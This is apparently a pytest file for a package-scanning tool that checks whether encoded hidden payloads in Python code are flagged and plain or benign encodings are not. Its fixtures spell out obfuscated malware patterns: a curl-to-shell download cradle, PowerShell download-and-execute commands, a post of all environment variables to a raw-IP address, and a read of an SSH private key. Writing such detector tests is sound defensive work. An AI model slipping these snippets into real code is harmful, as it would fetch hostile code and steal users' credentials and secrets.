"""Hidden payloads: an encoded constant whose decoded text is a downloader, a hidden command, a credential
path or an exfiltration endpoint gives evidence (no token, no value); plain or harmless ones do not.

Every package is defanged source built in memory (TEST-NET addresses, placeholder hosts) and nothing runs."""

from __future__ import annotations

import base64
import zlib

import pytest

from featurepkgs import make_archive
from vetpy.features.extract import extract_features
from vetpy.features.interface import PackageFeatures
from vetpy.features.source.hidden import HIDDEN_KINDS, HIDDEN_TOKEN
from vetpy.policy import token_findings


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def features(code: str) -> PackageFeatures:
    return extract_features(make_archive({"pkg/tool.py": code}))


CRADLE = "curl -s http://203.0.113.9/x.sh | sh"
PS = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
PS_ENC = base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le")).decode()

HIDDEN = {
    "base64 download-and-run": (
        f"import os\ndef go():\n    os.system(__import__('base64').b64decode('{b64(CRADLE)}'))\n"
    ),
    "zlib+base64 PowerShell": (
        "import base64, zlib, subprocess\n"
        f"P = '{base64.b64encode(zlib.compress(PS.encode())).decode()}'\n"
        "def run():\n    subprocess.run(['powershell', zlib.decompress(base64.b64decode(P)).decode()])\n"
    ),
    "PowerShell -EncodedCommand": (
        "import subprocess\ndef setup_env():\n"
        f"    subprocess.Popen(['powershell', '-W', 'Hidden', '-EncodedCommand', '{PS_ENC}'])\n"
    ),
    "reversed raw-IP URL": (
        "import requests, os\ndef sync():\n"
        f"    requests.post('{'http://203.0.113.9:8888/in'[::-1]}'[::-1], json=dict(os.environ))\n"
    ),
    "hex credential path": (
        "import os\ndef load():\n"
        f"    path = bytes.fromhex('{b'~/.ssh/id_rsa'.hex()}').decode()\n"
        "    return open(os.path.expanduser(path)).read()\n"
    ),
    "character codes of a raw-IP URL": (
        "import urllib.request\ndef ping():\n"
        f"    u = ''.join(chr(c) for c in {[ord(c) for c in 'http://203.0.113.9/p']})\n"
        "    urllib.request.urlopen(u)\n"
    ),
}

SETTINGS = "name=demo; color=blue; retries=3"
DOCS = "https://docs.example.org/guide/start"
HELPER = b"import os" + bytes([10]) + b"print(os.getcwd())"
HARMLESS = {
    "plain downloader (seen as it is, no hiding)": f"import os\ndef go():\n    os.system('{CRADLE}')\n",
    "base64 of a settings text": f"import base64\nCFG = base64.b64decode('{b64(SETTINGS)}')\n",
    "base64 of an ordinary URL": f"import base64\nU = base64.b64decode('{b64(DOCS)}')\n",
    "zlib+base64 of Python code": (
        "import base64, zlib\n"
        f"SRC = '{base64.b64encode(zlib.compress(HELPER)).decode()}'\n"
        "def helper():\n    return zlib.decompress(base64.b64decode(SRC)).decode()\n"
    ),
}


@pytest.mark.parametrize("name", sorted(HIDDEN))
def test_an_encoded_payload_is_evidence_at_its_literal(name: str) -> None:
    found = features(HIDDEN[name])
    evidence = found.evidence_for(HIDDEN_TOKEN)
    assert evidence, found.code_text
    first = evidence[0]
    assert first.file.endswith("pkg/tool.py") and first.line >= 2
    assert first.message.startswith("an encoded string decodes to a hidden ")
    assert HIDDEN_TOKEN not in found.code_text.split()  # evidence only: the model's inputs do not change
    assert token_findings(found.code_text) == ("hidden_payload",)  # what the lab reads from cached tokens


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_plain_or_harmless_encodings_are_not(name: str) -> None:
    found = features(HARMLESS[name])
    assert not found.evidence_for(HIDDEN_TOKEN)
    assert "hidden_payload" not in token_findings(found.code_text)


def test_every_hidden_kind_is_a_decoded_token() -> None:
    assert all(t.startswith("decoded:") for t in HIDDEN_KINDS)
    assert "decoded:url" not in HIDDEN_KINDS and "decoded:python" not in HIDDEN_KINDS
